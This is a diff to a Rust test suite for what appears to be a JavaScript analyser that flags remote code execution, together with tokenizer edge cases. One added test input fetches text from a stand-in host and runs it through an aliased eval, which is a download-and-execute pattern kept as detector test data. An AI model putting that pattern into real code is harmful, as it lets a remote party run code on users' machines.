@@ -55,13 +55,17 @@ fn what_acts_is_found_wherever_it_stands_in_a_large_script() {
         format!("exports.go = function () {{ {PAYLOAD} }};"),
         format!("exports.go = function (a) {{ return a.map((b) => {{ const c = b.id; {PAYLOAD} return c; }}); }};"),
         format!("class Loader {{ constructor(a) {{ this.a = a; {PAYLOAD} }} }} exports.Loader = Loader;"),
+        "const cp = require('child_process'), e = eval;\nexports.go = function (a) { const list = a.map((b) => b.id); \
+         fetch('https://api.invalid/x').then((r) => r.text()).then((t) => run(t)); return list; };\n\
+         function run(t) { const list = []; for (const one of rows) { list.push(one.size); } e(t); return list.length; }"
+            .to_owned(),
         format!("const o = {{ get value() {{ {PAYLOAD} }} }}; exports.o = o;"),
     ] {
         let source = padded(&inner);
         let facts = facts(&source);
         assert!(runs_remote_text(&facts), "{inner}");
         let flow = facts.flows.iter().find(|flow| flow.sink == Sink::Code).expect("there is one");
-        assert!(source[flow.span.clone()].starts_with("eval("), "places stay what they are");
+        assert!(["eval(t)", "e(t)"].contains(&&source[flow.span.clone()]), "places stay what they are");
     }
 }
 
@@ -83,6 +87,13 @@ fn nothing_that_misleads_a_tokenizer_hides_what_follows() {
         "n = m.return / 2; k = '/ `';",
         "const \\u0061b = 1 / 2; // '",
         "async function w2() { await /'`\"/.test(1); }",
+        "async function w3() { b = await (a) / 2; c = '/'; d = `'`; }",
+        "while (a) { break\n/'\"`/.test(b); }",
+        "var of = 4; b = of / 2; c = '/ `';",
+        "class P { #in = 1; m() { return this.#in / 2 + '/ `'; } }",
+        "b = 'x\\\r\n / { \" `';",
+        "for (let i = 0; i++<9;) { b = 1<<2; }",
+        "b = <a>// it's `</a>;",
         "<!-- it's {\n",
         "let z9 = 1\n--> it's `{\n",
     ] {
